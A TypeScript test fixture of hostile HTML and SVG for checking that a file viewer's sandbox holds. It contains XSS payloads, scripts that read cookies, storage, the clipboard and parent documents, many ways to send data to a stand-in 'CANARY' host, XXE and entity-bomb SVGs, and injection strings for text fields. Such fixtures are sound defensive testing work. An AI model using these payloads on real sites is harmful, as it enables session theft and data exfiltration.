/**
 * Hostile HTML and SVG, as data. A script that runs calls `pwned()` where it can and sends `loot` what it could read; a
 * fetch requests the canary, whose address replaces `CANARY`.
 */
export interface Hostile {
  name: string
  source: string
}

/** Reports to the parent page; a value that could be read is loot. */
const TELL = `<script>
const tell = (what, read) => {
  Promise.resolve().then(read).then((value) => say(what, value), () => {})
}
const say = (what, value) => {
  if (value === undefined || value === null || value === false || value === '') return
  for (const place of [parent, top]) { try { place.postMessage({ loot: what + ': ' + String(value) }, '*') } catch {} }
}
const pwned = () => { try { top.pwned = 1 } catch {} try { parent.pwned = 1 } catch {} }
</script>`

/** What a script tries to steal: each must return nothing. */
const THEFTS: Record<string, string> = {
  'the cookie': "tell('cookie', () => document.cookie)",
  'local storage': "tell('localStorage', () => Object.keys(localStorage).join() || 'readable')",
  'session storage': "tell('sessionStorage', () => { sessionStorage.x = 1; return 'writable' })",
  'an indexed database':
    "tell('indexedDB', () => new Promise((y, n) => { const r = indexedDB.open('x'); r.onsuccess = () => y('opened'); r.onerror = n }))",
  'the cache storage': "tell('caches', async () => { await caches.open('x'); return 'opened' })",
  'the document around it':
    "tell('parent', () => parent !== self && parent.document.body.innerHTML)",
  'the top document': "tell('top', () => top !== self && top.document.title)",
  'the address of the top': "tell('top href', () => top !== self && top.location.href)",
  'the frame element': "tell('frameElement', () => frameElement)",
  'our API with the cookie': "tell('api', async () => (await fetch('/api/me')).status)",
  'our API by XHR':
    "tell('xhr', () => new Promise((y, n) => { const x = new XMLHttpRequest(); x.open('GET', '/api/me'); x.onload = () => y(x.status); x.onerror = n; x.send() }))",
  'an origin': "tell('origin', () => origin !== 'null' && origin)",
  'a service worker':
    "tell('worker', async () => (await navigator.serviceWorker.register('/sw.js')).scope)",
  'a shared channel':
    "tell('channel', () => { const c = new BroadcastChannel('codeshelf:outbox'); c.postMessage('x') })",
  'the clipboard': "tell('clipboard', () => navigator.clipboard.readText())",
  'the place of the reader':
    "tell('geo', () => new Promise((y, n) => navigator.geolocation.getCurrentPosition(() => y('here'), n)))",
  'a database by a blob worker':
    "tell('blob', () => new Promise((y, n) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => y('ran'); w.onerror = n }))",
}

/** Ways to connect to another host. */
const CALLS: Record<string, string> = {
  fetch: "fetch('CANARY/fetch', { mode: 'no-cors' }).catch(() => {})",
  'fetch that outlives the page':
    "fetch('CANARY/keep', { mode: 'no-cors', keepalive: true }).catch(() => {})",
  beacon: "navigator.sendBeacon('CANARY/beacon', 'x')",
  'new Image': "new Image().src = 'CANARY/image'",
  WebSocket: "new WebSocket('CANARY/socket'.replace('http', 'ws'))",
  EventSource: "new EventSource('CANARY/events')",
  XMLHttpRequest: "const x = new XMLHttpRequest(); x.open('GET', 'CANARY/xhr'); x.send()",
  'dynamic import': "import('CANARY/module.js').catch(() => {})",
  'a script element':
    "const s = document.createElement('script'); s.src = 'CANARY/script.js'; document.head.append(s)",
  'a style sheet element':
    "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'CANARY/style.css'; document.head.append(l)",
  'a frame element':
    "const f = document.createElement('iframe'); f.src = 'CANARY/frame'; document.documentElement.append(f)",
  'an own address': "location.href = 'CANARY/location'",
  'location.replace': "location.replace('CANARY/replace')",
  'location through a frame of its own':
    "const f = document.createElement('iframe'); document.documentElement.append(f); f.contentWindow.location = 'CANARY/inner'",
  'a form that sends itself':
    "const f = document.createElement('form'); f.action = 'CANARY/form'; f.method = 'post'; document.documentElement.append(f); f.submit()",
  'a popup': "window.open('CANARY/popup')",
  'a popup of nothing, then elsewhere': "const w = open(''); if (w) w.location = 'CANARY/popup2'",
  'the top address': "try { top.location = 'CANARY/top' } catch {}",
  'the parent address': "try { parent.location = 'CANARY/parent' } catch {}",
  'a link that presses itself':
    "const a = document.createElement('a'); a.href = 'CANARY/a'; a.target = '_top'; document.documentElement.append(a); a.click()",
  'a link with a ping':
    "const a = document.createElement('a'); a.href = '#'; a.ping = 'CANARY/ping'; document.documentElement.append(a); a.click()",
  'a download':
    "const a = document.createElement('a'); a.href = 'CANARY/file'; a.download = 'x'; document.documentElement.append(a); a.click()",
  'a worker': "try { new Worker('CANARY/worker.js') } catch {}",
  'a worklet': "CSS.paintWorklet?.addModule('CANARY/paint.js').catch(() => {})",
  'a font': "new FontFace('x', 'url(CANARY/font)').load().catch(() => {})",
  'web transport': "try { new WebTransport('https://127.0.0.1:1/CANARY') } catch {}",
  'a peer connection':
    "try { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:CANARYHOST' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)) } catch {}",
  'a prefetch rule':
    "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ urls: ['CANARY/speculate'], eagerness: 'immediate' }] }); document.head.append(s)",
  'a report':
    "const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = \"script-src 'none'; report-uri CANARY/report\"; document.head.append(m)",
  'a base address':
    "const b = document.createElement('base'); b.href = 'CANARY/'; document.head.append(b); new Image().src = 'relative.png'",
  'the history':
    "history.pushState(0, '', '/files'); fetch('CANARY/history', { mode: 'no-cors' }).catch(() => {})",
  'a dialog': 'alert(1); confirm(1); prompt(1); print()',
}

/** Markup that needs no script of its own. */
const MARKUP: Record<string, string> = {
  'an image': '<img src="CANARY/a.png" onerror="pwned()">',
  'a source set': '<img srcset="CANARY/a.png 1x, CANARY/b.png 2x">',
  'a picture': '<picture><source srcset="CANARY/p.png"><img></picture>',
  'an image button': '<input type="image" src="CANARY/i.png">',
  'a style sheet': '<link rel="stylesheet" href="CANARY/a.css">',
  'an import in style': '<style>@import url(CANARY/b.css);</style>',
  'a background':
    '<p style="background: url(CANARY/bg.png)">x</p><style>body { background: image-set("CANARY/set.png" 1x) }</style>',
  'a font face':
    '<style>@font-face { font-family: x; src: url(CANARY/f.woff2) } p { font-family: x }</style><p>x</p>',
  'a cursor and a list mark':
    '<style>p { cursor: url(CANARY/c.cur), auto; list-style: url(CANARY/l.png); display: list-item }</style><p>x</p>',
  'attribute probes by style':
    '<style>input[value^="s"] { background: url(CANARY/s) }</style><input value="secret">',
  'a script': '<script src="CANARY/x.js"></script>',
  'a module': '<script type="module">import "CANARY/m.js"</script>',
  'a video and a sound':
    '<video src="CANARY/v.mp4" poster="CANARY/poster.png" autoplay muted></video><audio src="CANARY/a.mp3" autoplay></audio>',
  'a track': '<video><track src="CANARY/t.vtt" default kind="captions"></video>',
  'an object': '<object data="CANARY/o.html"></object>',
  'an embed': '<embed src="CANARY/e.html">',
  'a frame': '<iframe src="CANARY/f.html"></iframe>',
  'a frame of our own page': '<iframe src="/files"></iframe><iframe src="/logout"></iframe>',
  'a frame with text':
    '<iframe srcdoc="<script>top.pwned = 1; parent.parent.pwned = 1</script><img src=CANARY/srcdoc>"></iframe>',
  'a frame with data':
    '<iframe src="data:text/html,<script>top.pwned=1</script><img src=CANARY/data>"></iframe>',
  'a frame set': '<frameset cols="50%,50%"><frame src="CANARY/1"><frame src="CANARY/2"></frameset>',
  'a refresh': '<meta http-equiv="refresh" content="0;url=CANARY/refresh">',
  'a refresh to data':
    '<meta http-equiv="refresh" content="0;url=data:text/html,<script>top.pwned=1</script>">',
  'a refresh to a script': '<meta http-equiv="refresh" content="0;url=javascript:top.pwned=1">',
  'a base': '<base href="CANARY/"><img src="relative.png">',
  'a cookie by meta': '<meta http-equiv="set-cookie" content="session=stolen">',
  'a report by meta':
    '<meta http-equiv="Content-Security-Policy" content="img-src \'none\'; report-uri CANARY/r"><img src="/x.png">',
  'a prefetch':
    '<link rel="prefetch" href="CANARY/pf"><link rel="preload" as="image" href="CANARY/pl"><link rel="modulepreload" href="CANARY/mp.js">',
  'a prerender': '<link rel="prerender" href="CANARY/pr"><link rel="next" href="CANARY/next">',
  'an icon and a manifest':
    '<link rel="icon" href="CANARY/icon"><link rel="manifest" href="CANARY/manifest.json">',
  'an event of the body': '<body onload="pwned()" onpageshow="pwned()">',
  'a focus event': '<input autofocus onfocus="pwned()">',
  'a details event': '<details open ontoggle="pwned()"><summary>x</summary></details>',
  'an animation event':
    '<style>@keyframes x {}</style><p style="animation: x 1s" onanimationstart="pwned()">x</p>',
  'an svg event':
    '<svg onload="pwned()"><animate onbegin="pwned()" attributeName="x" dur="1s"/></svg>',
  'an svg use': '<svg><use href="CANARY/u.svg#x"/><image href="CANARY/i.svg"/></svg>',
  'a script address':
    '<a id="x" href="javascript:top.pwned=1" target="_top">x</a><form action="javascript:top.pwned=1"><input name="x" autofocus></form>',
  'a form':
    '<form action="CANARY/form" id="f"><input name="x" value="y"><button autofocus>Send</button></form>',
  'a portal and a fenced frame':
    '<portal src="CANARY/portal"></portal><fencedframe src="CANARY/fenced"></fencedframe>',
  'math and its links':
    '<math href="javascript:top.pwned=1"><mtext><img src="CANARY/m.png"></mtext></math>',
  'a declarative shadow':
    '<div><template shadowrootmode="open"><img src="CANARY/shadow.png"><style>@import url(CANARY/s.css)</style></template></div>',
  'a marquee': '<marquee onstart="pwned()" behavior="alternate">x</marquee>',
  'a broken tag': '<img/src="CANARY/b.png"/onerror=pwned()><svg/onload=pwned()>',
  'an xml style sheet': '<?xml-stylesheet href="CANARY/x.xsl" type="text/xsl"?><p>x</p>',
  'a manifest of old': '<html manifest="CANARY/m.appcache"><p>x</p>',
}

/** Peer connections from a frame inside the document: Chromium 156 ends the whole tab rather than let one through. */
export const NESTED_CALLS: readonly Hostile[] = ['srcdoc', 'src'].map((attribute) => {
  const code =
    "const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:CANARYHOST' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))"
  const inner = attribute === 'src' ? `javascript:${code}` : `<script>${code}</script>`
  return { name: attribute, source: `<!doctype html><iframe ${attribute}="${inner}"></iframe>` }
})

/** What leads elsewhere, or changes what may run or be loaded after it: each has a document of its own. */
const ALONE = new Set([
  'an own address',
  'location.replace',
  'location through a frame of its own',
  'a form that sends itself',
  'a popup',
  'a popup of nothing, then elsewhere',
  'the top address',
  'the parent address',
  'a link that presses itself',
  'a link with a ping',
  'a download',
  'a peer connection',
  'a report',
  'a base address',
  'the history',
  'a dialog',
  'a frame of our own page',
  'a frame set',
  'a refresh',
  'a refresh to data',
  'a refresh to a script',
  'a base',
  'a report by meta',
  'an event of the body',
  'a focus event',
  'a script address',
  'a form',
  'a manifest of old',
  'an animated address',
  'a foreign refresh',
  'a foreign form',
  'a foreign base',
  'a link of the whole',
])

/** One document of all that can be together in one: what it takes or requests identifies the attack. */
function together(
  kind: string,
  cases: Record<string, string>,
  documentOf: (parts: string[]) => string,
): Hostile[] {
  const shared = Object.keys(cases).filter((name) => !ALONE.has(name))
  const alone = Object.keys(cases).filter((name) => ALONE.has(name))
  return [shared, ...alone.map((name) => [name])].map((names) => ({
    name: `${kind}: ${names.join(', ')}`,
    source: documentOf(names.map((name) => cases[name]!)),
  }))
}

const withMarkup = (parts: string[]) => `<!doctype html>${TELL}${parts.join('\n')}`
const withScripts = (parts: string[]) =>
  withMarkup(parts.map((code) => `<script>{ ${code} }</script>`))

export const HOSTILE_HTML: readonly Hostile[] = [
  ...together('markup', MARKUP, withMarkup),
  ...together('call', CALLS, withScripts),
  ...together('theft', THEFTS, withScripts),
]

const svg = (inner: string, root = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" ${root}>${inner}<rect width="9" height="9"/></svg>`

/** The content of a drawing. */
const DRAWN: Record<string, string> = {
  'a script': '<script>top.pwned = 1; fetch("CANARY/s")</script>',
  'a script with an address': '<script href="CANARY/s.js"/><script xlink:href="CANARY/t.js"/>',
  'an event of a shape':
    '<circle r="9" onload="top.pwned=1"/><image href="x:" onerror="top.pwned=1"/>',
  'an animation event':
    '<animate attributeName="x" dur="1s" onbegin="top.pwned=1"/><set attributeName="y" to="1" onend="top.pwned=1"/>',
  'an animated address':
    '<a><animate attributeName="href" values="javascript:top.pwned=1"/><text>x</text></a>',
  'an image from outside':
    '<image href="CANARY/i.png" width="9" height="9"/><image xlink:href="CANARY/j.png"/>',
  'an svg image from outside': '<image href="CANARY/i.svg" width="9" height="9"/>',
  'a use from outside': '<use href="CANARY/u.svg#x"/><use xlink:href="CANARY/v.svg#x"/>',
  'a gradient and a filter from outside':
    '<rect fill="url(CANARY/g.svg#g)" filter="url(CANARY/f.svg#f)" mask="url(CANARY/m.svg#m)"/>',
  'an image filter':
    '<filter id="f"><feImage href="CANARY/fe.png"/></filter><rect filter="url(#f)" width="9" height="9"/>',
  'a style sheet': '<style>@import url(CANARY/a.css); rect { fill: url(CANARY/b.svg#x) }</style>',
  'a font':
    '<style>@font-face { font-family: x; src: url(CANARY/f.woff2) } text { font-family: x }</style><text y="9">x</text>',
  'a foreign frame':
    '<foreignObject width="99" height="99"><iframe xmlns="http://www.w3.org/1999/xhtml" src="CANARY/frame"/></foreignObject>',
  'a foreign script':
    '<foreignObject width="99" height="99"><script xmlns="http://www.w3.org/1999/xhtml">top.pwned=1</script><img xmlns="http://www.w3.org/1999/xhtml" src="CANARY/f.png" onerror="top.pwned=1"/></foreignObject>',
  'a foreign refresh':
    '<foreignObject width="99" height="99"><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=CANARY/r"/></foreignObject>',
  'a foreign form':
    '<foreignObject width="99" height="99"><form xmlns="http://www.w3.org/1999/xhtml" action="CANARY/f"><input autofocus="" onfocus="top.pwned=1"/></form></foreignObject>',
  'a foreign base':
    '<foreignObject width="99" height="99"><base xmlns="http://www.w3.org/1999/xhtml" href="CANARY/"/><img xmlns="http://www.w3.org/1999/xhtml" src="rel.png"/></foreignObject>',
  'a handler element':
    '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">top.pwned=1</handler>',
  'a link of the whole':
    '<a href="javascript:top.pwned=1" target="_top"><rect width="40" height="40"/></a>',
  'a view and a cursor':
    '<cursor href="CANARY/c.cur"/><view id="v"/><rect cursor="url(CANARY/d.cur)"/>',
  'a sound and a film':
    '<audio xmlns="http://www.w3.org/1999/xhtml" src="CANARY/a.mp3" autoplay=""/><video xmlns="http://www.w3.org/1999/xhtml" src="CANARY/v.mp4" autoplay=""/>',
}

/** Whole files. */
const DRAWINGS: Record<string, string> = {
  'an event of the root': svg('', 'onload="top.pwned=1" onclick="top.pwned=1"'),
  'a linked style': `<?xml-stylesheet href="CANARY/x.css" type="text/css"?>${svg('')}`,
  'a transformation': `<?xml-stylesheet href="CANARY/x.xsl" type="text/xsl"?>${svg('')}`,
  'an outside entity': `<!DOCTYPE svg [<!ENTITY x SYSTEM "CANARY/entity">]>${svg('<text y="9">&x;</text>')}`,
  'an outside definition': `<!DOCTYPE svg SYSTEM "CANARY/svg.dtd">${svg('')}`,
  'a bomb of entities': `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">]>${svg('<text>&e;&e;&e;</text>')}`,
  'a script by entity': `<!DOCTYPE svg [<!ENTITY x "<script xmlns='http://www.w3.org/2000/svg'>top.pwned=1</script>">]>${svg('&x;')}`,
  'html that calls itself an image':
    '<svg><script>top.pwned=1</script><img src="CANARY/h.png" onerror="top.pwned=1"></svg>',
  'a namespace of its own':
    '<svg xmlns="http://www.w3.org/1999/xhtml"><script>top.pwned=1</script><img src="CANARY/n.png"/></svg>',
}

export const HOSTILE_SVG: readonly Hostile[] = [
  ...together('drawn', DRAWN, (parts) => svg(parts.join(''))),
  ...Object.entries(DRAWINGS).map(([name, source]) => ({ name, source })),
]

/** How many attacks the documents above hold. */
export const HOSTILE_CASES = [MARKUP, CALLS, THEFTS, DRAWN, DRAWINGS].reduce(
  (sum, cases) => sum + Object.keys(cases).length,
  0,
)

/** Texts that people may enter as names, tags, descriptions and searches. A name cannot contain a slash. */
export const HOSTILE_TEXTS: readonly string[] = [
  '"><img src=x onerror=pwned()>',
  "'><svg onload=pwned()>",
  '<script>pwned()<\u2215script>',
  '--><script>pwned()',
  '</title><script>pwned()'.replace('/', '\u2215'),
  'javascript:pwned()',
  '{{constructor.constructor("pwned()")()}}',
  '$' + '{pwned()}`pwned()`',
  '\u202egnp.exe\u2066',
  "');pwned();('",
  '&lt;script&gt;pwned()',
  '" onmouseover="pwned()" x="',
  '__proto__',
  '%3Cscript%3Epwned()',
]
